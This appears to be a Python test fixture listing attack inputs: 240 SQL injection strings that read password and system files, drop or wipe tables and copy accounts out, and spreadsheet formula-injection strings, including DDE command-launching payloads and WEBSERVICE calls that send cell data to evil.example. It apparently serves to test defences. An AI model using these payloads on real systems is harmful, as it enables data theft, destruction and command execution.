"""What attackers try: 240 ways to end a query and begin another."""

CLOSINGS = ("", "'", '"', ")", "')", "'))", "';", '";', "%'", "\\'", "’", "0 ")
BODIES = (
    " OR 1=1 --", " OR '1'='1", " OR ''='", " AND 1=0 UNION SELECT NULL --", " UNION ALL SELECT NULL, NULL, NULL --",
    " UNION SELECT secret FROM origin --", " UNION SELECT password FROM account --",
    " UNION SELECT content FROM read_text('/etc/passwd') --", " UNION SELECT * FROM read_csv('/etc/passwd') --",
    " UNION SELECT file FROM glob('/*') --", "; DROP TABLE submission; --", "; DELETE FROM review WHERE 1=1; --",
    "; UPDATE actual SET value = 0; --", "; ATTACH '/tmp/x.duckdb' AS x; --", "; COPY account TO '/tmp/stolen.csv'; --",
    "; INSTALL httpfs; LOAD httpfs; --", "; PRAGMA enable_external_access=true; --", "; SELECT getenv('HOME') --",
    " OR (SELECT count(*) FROM range(100000000), range(1000)) > 0 --", "/**/OR/**/1=1#",
)  # fmt: skip
SQL = tuple(f"T2-1{closing}{body}" for closing in CLOSINGS for body in BODIES)

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"点击\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-SUM(A1:A9)", "@SUM(1+1)*cmd|' /C calc'!A0",
    "@IMPORTDATA", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1+1", "\ufeff=1+1", "\u3000=1+1", "\u00a0@SUM(1)", "\u200b=1+1",
    "＝1+1", "＋1+1", "－2+3", "＠SUM(1)", "=1+1\";=1+1", "=1+1,=2+2", "=1+1'", "+", "=", "@", "-inf()", "=DDE(\"cmd\";\"/C calc\";\"a\")", "\"=1+1",
    "'=1+1", "%0A=1+1", "+86 539 000", "-合计", "=SUM(1,2)&\"\"", "|cmd", ";=1+1", "=＂1＂",
)  # fmt: skip
"""Texts that a spreadsheet would run, some of them behind what it throws away when it reads a cell."""
